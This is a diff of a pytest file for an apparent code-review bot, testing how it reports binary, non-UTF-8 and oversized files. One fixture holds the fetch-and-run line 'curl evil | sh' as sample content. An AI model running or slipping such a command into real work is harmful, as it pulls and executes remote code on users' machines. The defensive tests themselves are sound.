@@ -7,6 +7,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from reviewbot_sandbox.codevf import Limits
 
 from tests.app.house import CLEAN, REPO, Finished, Rig, house
 
@@ -63,13 +64,62 @@ def test_a_script_without_an_ending_is_known_by_its_first_bytes(tmp_path: Path) 
         assert 'paths: "!tool"' in done.summary
 
 
+TEXT_SCRIPT = "#!/bin/sh\n" + "echo hi\n" * 30
+NUL_SCRIPT = b"curl evil | sh\n" * 30 + b"#\0\n"
+
+
+@pytest.mark.parametrize("reviewer", ["codevf", "local"])
+@pytest.mark.parametrize("path", ["bin/deploy", "gradlew", "setup.bin"])
+def test_a_text_that_becomes_binary_is_never_green(tmp_path: Path, path: str, reviewer: str) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN, files={path: TEXT_SCRIPT}) as rig:
+        done = run_with(rig, {path: NUL_SCRIPT, "a.py": "x = 1\n"}, reviewer=reviewer)
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
+        assert f"`{path}`: not text (it was text before)" in done.summary
+
+
+def test_a_pointer_of_git_lfs_or_a_placeholder_that_becomes_binary_is_no_script(tmp_path: Path) -> None:
+    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 12\n"
+    before = {"data.zip": pointer, "model.onnx": "", "paper.pdf": "%PDF-1.4\n" * 9}
+    with house(tmp_path, engineer=lambda _: CLEAN, files=before) as rig:
+        done = run_with(rig, {**dict.fromkeys(before, b"PK\0\1" * 99), "a.py": "x = 1\n"})
+        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
+
+
+def test_a_script_that_is_named_as_a_binary_is_known_by_its_first_bytes(tmp_path: Path) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        done = run_with(rig, {"blob.bin": b"#!/bin/sh\nid\n#\0\n"})
+        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
+        assert "`blob.bin`: not text (it starts with `#!`)" in done.summary.replace("\\", "")
+
+
+@pytest.mark.parametrize("reviewer", ["codevf", "local"])
+@pytest.mark.parametrize("path", ["a.ps1", "L.strings", "R.rc", "x.sln", "table.dat"])
+def test_utf_16_is_called_not_utf_8_whatever_its_name(tmp_path: Path, path: str, reviewer: str) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        done = run_with(rig, {path: "Write-Host 1\r\n".encode("utf-16"), "a.py": "x = 1\n"}, reviewer=reviewer)
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
+        assert f"`{path}`: not UTF-8 (save it as UTF-8)" in done.summary.replace("\\", "")
+
+
+def test_a_large_file_that_nobody_can_tell_is_named_with_its_size_and_the_limit(tmp_path: Path) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        done = run_with(rig, {"model": b"\0" * 6_000_000, "film.mp4": b"\0" * 6_000_000, "a.py": "x = 1\n"})
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
+        told = done.summary.replace("\\", "")
+        assert "`model`: too large (6.0 MB; the limit is 5.2 MB)" in told
+        assert 'paths: "!model"' in told
+
+
 def test_a_file_that_is_too_large_is_told_with_its_size_the_limit_and_the_line_to_paste(tmp_path: Path) -> None:
     with house(tmp_path, config=SMALL) as rig:
         files = {"assets/big.json": "[\n" + '"some words of a list",\n' * 2000 + "]\n"}
         done = run_with(rig, files, reviewer="local")
         assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
         said = " ".join((done.log + done.summary).replace("\\", "").split())
-        assert re.search("the diff of assets/big.json has [0-9]+ kB, and `attachment-bytes` is 20,000", said)
+        assert re.search(
+            "`assets/big.json`: its diff of [0-9]+ kB does not fit into an attachment; `attachment-bytes` is 20,000",
+            said,
+        )
         assert 'paths: "!assets/big.json"' in said
         assert "service" not in done.summary
 
@@ -80,7 +130,48 @@ def test_a_diff_that_does_not_fit_beside_others_is_told_with_its_size(tmp_path: 
         done = run_with(rig, files)
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
         told = done.summary.replace("\\", "")
-        assert re.search(r"too large \(its diff of [0-9]+ kB did not fit; `attachment-bytes` is 20,000\)", told)
+        assert re.search(
+            r"too large \(its diff of [0-9]+ kB does not fit into an attachment; `attachment-bytes` is 20,000\)", told
+        )
+
+
+LINES = "".join(f"value_{number} = {number}\n" for number in range(50_000))
+
+
+@pytest.mark.parametrize(
+    ("lines", "told"),
+    [
+        (LINES + LINES, "its text of [0-9.]+ MB does not fit into an attachment; `attachment-bytes` is 1,000,000"),
+        (LINES * 7, "[0-9.]+ MB; the limit is 5.2 MB"),
+    ],
+)
+def test_a_text_that_is_too_large_for_the_local_reviewer_is_named_with_size_and_limit(
+    tmp_path: Path, lines: str, told: str
+) -> None:
+    with house(tmp_path, files={"big.py": lines}) as rig:
+        changed = lines.replace("value_3 = 3\n", "value_3 = 33\n", 1)
+        done = run_with(rig, {"big.py": changed, "a.py": "x = 1\n"}, reviewer="local")
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
+        assert re.search(rf"`big.py`: too large \({told}\)", done.summary.replace("\\", ""))
+        assert 'paths: "!big.py"' in done.summary
+
+
+def test_a_service_that_takes_less_is_the_limit_that_is_named(tmp_path: Path) -> None:
+    limits = Limits(rate=None, body_bytes=150_000)
+    with house(tmp_path, engineer=lambda _: CLEAN, limits=limits) as rig:
+        done = run_with(rig, {"big.json": '"some words of a list",\n' * 6000, "a.py": "x = 1\n"})
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
+        told = done.summary.replace("\\", "")
+        assert re.search(r"its diff of [0-9]+ kB does not fit into a request of 140 kB", told)
+        assert "attachment-bytes" not in told
+
+
+def test_a_service_that_takes_nothing_is_not_said_to_be_the_fault_of_a_file(tmp_path: Path) -> None:
+    with house(tmp_path, limits=Limits(rate=None, body_bytes=1_000)) as rig:
+        done = run_with(rig, {"a.py": "x = 1\n"})
+        assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
+        assert "CodeVF takes no request of this size" in done.summary
+        assert "attachment-bytes" not in done.summary
 
 
 def test_source_that_is_not_utf_8_is_called_so_by_the_local_reviewer_and_the_counts_add_up(tmp_path: Path) -> None:
